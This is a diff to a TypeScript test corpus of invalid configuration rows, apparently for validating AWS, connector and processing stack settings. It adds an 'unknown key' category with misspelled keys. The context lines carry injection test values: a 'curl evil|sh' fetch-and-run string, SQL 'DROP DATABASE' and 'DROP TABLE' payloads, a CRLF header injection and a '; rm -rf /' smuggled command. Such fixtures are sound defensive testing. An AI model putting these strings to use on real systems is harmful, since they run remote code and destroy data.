@@ -21,6 +21,7 @@ const KINDS = [
   "world-open CIDR",
   "missing secret",
   "injection",
+  "unknown key",
   "upstream missing",
   "upstream wrong type",
 ] as const;
@@ -112,6 +113,7 @@ export const CORPUS: readonly Row[] = [
   aws("injection", { oracleImage: "x; curl evil|sh" }),
   aws("injection", { redshiftDatabase: "fraud; DROP DATABASE dev" }),
   aws("injection", { opensearchMasterUser: 'admin"}' }),
+  aws("unknown key", { allowedCidr: ["203.0.113.7/32"] }),
 
   // ---- connector config ----
   connector("wrong type", { tableBuckets: "six" }),
@@ -123,6 +125,7 @@ export const CORPUS: readonly Row[] = [
   connector("malformed", { region: "eu-west-1" }), // not the aws-resources stack's region
   connector("malformed", { clusterType: "basic" }),
   connector("malformed", { awsResourcesStack: "aws-resources" }),
+  connector("unknown key", { tablebuckets: 6 }),
   connector("injection", { topicPrefix: "fd'; DROP TABLE x; --" }),
   connector("injection", { costCenter: "fraud\r\nX-Injected: 1" }),
   connector("injection", { awsResourcesStack: "organization/aws-resources/dev; rm -rf /" }),
@@ -149,6 +152,10 @@ export const CORPUS: readonly Row[] = [
   processing("missing secret", SNOWFLAKE, "snowflakePrivateKey"),
   {
     ...processing("missing secret", { ...SNOWFLAKE, snowflakePrivateKey: NOT_A_KEY }, "snowflakePrivateKey"),
+    secret: NOT_A_KEY,
+  },
+  {
+    ...processing("unknown key", { snowflakePrivatKey: NOT_A_KEY }),
     secret: NOT_A_KEY,
   },
   processing("injection", { blockedIpRanges: ["1.1.1.1/32' OR '1'='1"] }),
